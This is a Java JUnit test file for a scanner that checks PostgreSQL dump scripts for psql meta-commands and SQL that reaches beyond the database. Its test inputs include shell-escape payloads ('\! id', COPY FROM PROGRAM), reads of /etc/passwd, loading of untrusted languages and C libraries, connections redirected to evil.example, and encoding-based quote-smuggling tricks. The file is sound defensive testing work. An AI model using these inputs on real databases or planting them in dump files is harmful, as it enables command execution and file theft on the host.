package dev.drillbook.unpacking;

import static org.assertj.core.api.Assertions.assertThat;

import dev.drillbook.timeline.Finding;
import dev.drillbook.timeline.Verdict;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlScriptTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        BackupMaker.SQL,
        "\\restrict aB3\n\\connect shop\nselect 1;\n\\unrestrict aB3\n",
        "\\connect -reuse-previous=on \"dbname='a \\\\ b'\"\n",
        "\\connect \"my-shop\"\n",
        "SET standard_conforming_strings = on;\nselect 'C:\\', '\\! id';\n",
        "SET standard_conforming_strings = off;\nselect 'C:\\\\', 'it''s';\n",
        "select E'it\\\\', '\\! id', E'\\n';\n",
        "-- \\! id\n/* \\! id /* \\! */ \\! id */ select 1;\n",
        "create function f() returns int language sql as $_$ select '\\! id' $x$ $_$;\n",
        "create function f() returns int language sql begin atomic; select 1; end;\nselect 2;\n",
        "COPY t (v) FROM stdin;\nCOPY x FROM PROGRAM 'id'\n'\"$$\\n\\\\! id\n\\N\n\\.\nselect 1;\n",
        "copy (select v from t) to stdout;\nselect 1;\n",
        "COPY \"from\" FROM stdin;\n\\.\n",
        "GRANT ALL ON FUNCTION pg_catalog.lo_import(text) TO a;\n",
        "CREATE EXTENSION IF NOT EXISTS plpython3u;\nCOMMENT ON LANGUAGE plperlu IS 'x';\n",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ begin return 1; end $$;\n",
        "SELECT a[1:2], 1e-07, 2.5e10, x::text from t where v = $1;\n",
        "SET client_encoding = 'UTF8';\nSELECT pg_catalog.set_config('search_path', '', false);\n",
        "INSERT INTO t VALUES (1, 'lo_import', 'C:\\');\n",
      })
  void whatPgDumpWritesIsFine(String script) {
    assertThat(findings(script)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\\! id\n",
        "select 1 \\! id\n",
        "select 1; \\! id\n",
        "\\copy t from program 'id'\n",
        "\\i /etc/passwd\n",
        "\\o |id\n",
        "select 'id' \\gexec\n",
        "select 1 \\g |id\n",
        "\\setenv PAGER id\n",
        "\\set x `id`\n",
        "\\connect `id`\n",
        "\\connect shop \\! id\n",
        "\\connect shop u evil.example 5432\n",
        "\\connect \"host=evil.example\"\n",
        "\\connect postgresql://evil.example/x\n",
        "\\connect -reuse-previous=on \"dbname='x' host='evil.example'\"\n",
        "\\restrict a`id`\n",
        "\\",
        "select 'it''s' \\! id\n",
        "select E'\\\\' \\! id\n",
        "select E'a\\'b' \\! id\n",
        "select \"a\\\" \\! id\n",
        "-- a comment\r\\! id\n",
        "/* a /* b */ c */ \\! id\n",
        "select $a$ $b$ $a$ \\! id\n",
        "select $a$ $$a$ \\! id\n",
        "COPY t FROM stdin;\n1\n\\.\n\\! id\n",
        "COPY t FROM stdin; \\! id\n1\n\\.\n",
        "COPY t FROM stdin; select '\n1\n\\.\n' \\! id\n",
        "COPY t FROM stdin;\n1\n\\! id\n\\.\n",
        "COPY t FROM stdin;\n1\tx\\! id\n\\.\n",
        "COPY t FROM stdin;\r\n1\r\n\\.\r\n\\! id\n",
        "COPY (select 1 FROM stdin) TO stdout;\n\\! id\n\\.\n",
        "create function f() begin atomic; copy t from stdin; end;\n\\! id\n",
        "select (1; copy t from stdin;\n\\! id\n",
        "SET standard_conforming_strings = off;\nselect '\\' \\! id';\n",
        "SET standard_conforming_strings TO 'off';\nselect '\\' \\! id';\n",
        "select E'a'\r'\\' \\! id",
      })
  void aCommandOfPsqlIsFound(String script) {
    assertThat(findings(script))
        .isNotEmpty()
        .allMatch(finding -> finding.verdict() == Verdict.FAIL);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "COPY t FROM PROGRAM 'id';\n",
        "copy t to program $$id$$;\n",
        "COPY t (a, b) FROM '/etc/passwd';\n",
        "COPY t FROM E'/etc/passwd';\n",
        "COPY /* x */ t -- y\n FROM\n-- z\n PROGRAM 'id';\n",
        "COPY (select 1) TO '/tmp/x';\n",
        "COPY (select 1 FROM stdin) TO PROGRAM 'id';\n",
        "select 1; copy t from program 'id'",
        "select lo_import('/etc/passwd');\n",
        "select pg_catalog.\"lo_export\"(1, '/tmp/x');\n",
        "select PG_READ_FILE('/etc/passwd');\n",
        "CREATE FUNCTION f() RETURNS int AS '/tmp/x.so', 'f' LANGUAGE C STRICT;\n",
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE 'c' AS '/tmp/x.so';\n",
        "CREATE FUNCTION f() RETURNS int LANGUAGE \"plpython3u\" AS $$ x $$;\n",
        "DO LANGUAGE plperlu $$ x $$;\n",
        "CREATE TRUSTED PROCEDURAL LANGUAGE plpythonu;\n",
        "SET client_encoding = 'SJIS';\n",
        "SET NAMES 'GBK';\n",
        "ALTER ROLE a SET standard_conforming_strings TO 'off';\n",
        "select 1e'\\';\n",
        "SET standard_conforming_strings = off;\nselect '\\', 1;\n",
        "create function f() begin atomic; copy t from stdin; end;\nselect lo_import('x');\n",
      })
  void whatReachesBeyondTheDatabaseIsFound(String script) {
    assertThat(findings(script)).hasSize(1);
  }

  @Test
  void aFindingNamesTheLinesAndShowsNoSecrets() {
    List<Finding> findings =
        findings(
            "select 1;\nCOPY t FROM stdin;\na\nb\n\\.\n\n\\setenv PGPASSWORD hunter2\n\\! id\n");

    assertThat(findings).hasSize(1);
    assertThat(findings.get(0).examples()).containsExactly("line 7: \\setenv", "line 8: \\!");
    assertThat(findings.get(0).found()).startsWith("2 times");
    assertThat(findings.get(0).toString()).doesNotContain("hunter2");
  }

  /** Whatever is cut where: every token is read over the edge of a buffer once. */
  @Test
  void whatIsFoundDoesNotDependOnHowTheScriptComes() {
    String script =
        "select E'a\\\\', $x$ $ $x$; -- c\n/* /* */ */ COPY t FROM stdin;\n\\\\! a\n\\.\n\\! id\n";
    for (int size = 1; size < 20; size++) {
      int chunk = size;
      InputStream slow =
          new ByteArrayInputStream(script.getBytes(StandardCharsets.UTF_8)) {
            @Override
            public synchronized int read(byte[] into, int offset, int length) {
              return super.read(into, offset, Math.min(length, chunk));
            }
          };
      assertThat(SqlScript.findings("s", slow))
          .singleElement()
          .satisfies(finding -> assertThat(finding.examples()).containsExactly("line 5: \\!"));
    }
  }

  private static List<Finding> findings(String script) {
    return SqlScript.findings(
        "shop.sql", new ByteArrayInputStream(script.getBytes(StandardCharsets.UTF_8)));
  }
}
